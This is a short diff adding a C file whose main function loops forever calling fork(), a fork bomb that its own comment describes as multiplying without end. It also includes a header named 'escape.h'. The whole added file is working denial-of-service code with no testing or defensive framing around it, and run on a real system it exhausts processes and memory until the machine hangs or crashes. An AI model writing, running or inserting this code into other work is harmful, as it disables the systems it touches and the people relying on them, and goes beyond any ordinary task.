@@ -1,0 +1,6 @@
+/* Multiplies without end. */
+#include "escape.h"
+
+int main(void) {
+    for (;;) fork();
+}
